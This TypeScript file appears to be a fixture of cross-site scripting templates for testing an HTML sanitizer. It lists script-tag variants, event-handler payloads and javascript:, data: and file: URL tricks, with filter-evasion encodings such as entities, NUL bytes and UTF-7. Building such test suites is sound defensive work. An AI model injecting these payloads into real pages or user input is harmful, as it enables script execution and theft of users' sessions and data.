/** Templates of attacks: JS, URL, REMOTE and NAME stand for what `attacks.ts` puts in their place. */

export const scripts = {
  'script-plain': '<script>JS</script>',
  'script-case': 'x <ScRiPt>JS</sCrIpT>',
  'script-src': 'x <script src="URL"></script>',
  'script-src-slashes': '<script src="//attacked.example/attacked/NAME"></script>',
  'script-module': '<script type=module>import "REMOTE"</script>',
  'script-slash': '<div><script/x src="URL">JS</script x></div>',
  'script-line-break': '<script\n>JS</script\n>',
  'script-nul': '<div><scr\0ipt>JS</scr\0ipt><script\0>JS</script></div>',
  'script-in-script': 'x <scr<script>ipt>JS</scr</script>ipt>',
  'script-two-brackets': 'x <<script>JS//<</script>',
  'script-unclosed': 'x <script>JS',
  'script-behind-comment': '<!--><script>JS</script>-->',
  'script-behind-cdata': 'x <![CDATA[><script>JS</script>]]>',
  'script-behind-instruction': '<?x ?><script>JS</script>',
  'script-behind-page-end': '</div></main></body></html><script>JS</script>',
  'script-conditional-comment': '<!--[if gte IE 4]><script>JS</script><![endif]-->',
  'script-utf-7': '+ADw-script+AD4-JS+ADw-/script+AD4-',
};

export const handlers = {
  'handler-image': '<img src=x onerror="JS">',
  'handler-slashes': '<div><img/src=x/onerror=JS//></div>',
  'handler-case': '<IMG SRC=x OnErRoR="JS">',
  'handler-form-feed': '<img src=x\fonerror="JS">',
  'handler-entities': 'x <img src=x onerror="&#119;indow.attacked&equals;1">',
  'handler-quotes': '<div><img """><script>JS</script>"></div>',
  'handler-backquotes': '<div><img src=`x` onerror=`JS`><img src=`x`onerror=JS></div>',
  'handler-image-alias': '<image src=x onerror="JS">',
  'handler-body': '<body onload="JS"><div onload="JS" onclick="JS">x</div>',
  'handler-details': '<details open ontoggle="JS">x</details>',
  'handler-focus': 'x <input autofocus onfocus="JS"><a href="#x" autofocus onfocus="JS">y</a>',
  'handler-media': '<video><source onerror="JS"></video><audio src=x onerror="JS">',
  'handler-marquee': 'x <marquee onstart="JS">y</marquee>',
  'handler-animation': '<style>@keyframes x{}</style><p style="animation:x" onanimationstart="JS">y</p>',
  'handler-click': '<a href="#x" onclick="JS">x</a> <p onmouseover="JS">y</p>',
};

export const addresses = {
  'address-script': '<a href="javascript:JS">x</a>',
  'address-case': '<a href="JaVaScRiPt:JS">x</a>',
  'address-control': '<a href="&#1; javascript:JS">x</a>',
  'address-tab': '<a href="jav&Tab;ascript:JS">x</a> <a href="jav\tascript:JS">y</a>',
  'address-line-break': '<a href="java&NewLine;script&colon;JS">x</a> <a href="java&#13;script:JS">y</a>',
  'address-decimal':
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105pt:JS">x</a>',
  'address-hexadecimal': '<a href="&#x6A&#x61&#x76&#x61&#x73;cript:JS">x</a>',
  'address-vbscript': '<a href="vbscript:JS">x</a> <a href="livescript:JS">y</a>',
  'address-data':
    '<a href="data:text/html,<script>JS</script>">x</a> <a href="DATA:text/html;base64,PHNjcmlwdD4=">y</a>',
  'address-wrapped': '<a href="view-source:javascript:JS">x</a> <a href="feed:javascript:JS">y</a>',
  'address-blob-file': '<a href="blob:https://x/y">x</a> <a href="file:///etc/passwd">y</a>',
  'address-other-attributes': '<a xlink:href="javascript:JS" ping="URL" target=_top download>x</a>',
  'address-cite': '<blockquote cite="javascript:JS">x</blockquote><q cite="URL">y</q>',
  'address-image':
    '<img src="javascript:JS"><img src="vbscript:JS"><img src="data:image/svg+xml,<svg onload=JS>">',
  'address-image-sets':
    '<img src="URL" srcset="REMOTE 2x" lowsrc="URL" dynsrc="URL" longdesc="javascript:JS">',
  'address-media':
    '<video poster="URL" src="URL"><track src="URL"></video><audio src="URL"></audio><bgsound src="URL">',
  'address-picture': '<picture><source srcset="REMOTE"><img src="REMOTE"></picture>',
  'address-background': '<table background="URL"><tr><td background="javascript:JS">x</table>',
  'address-map': '<map name=m><area href="javascript:JS"></map><img usemap="#m" src="URL">',
};
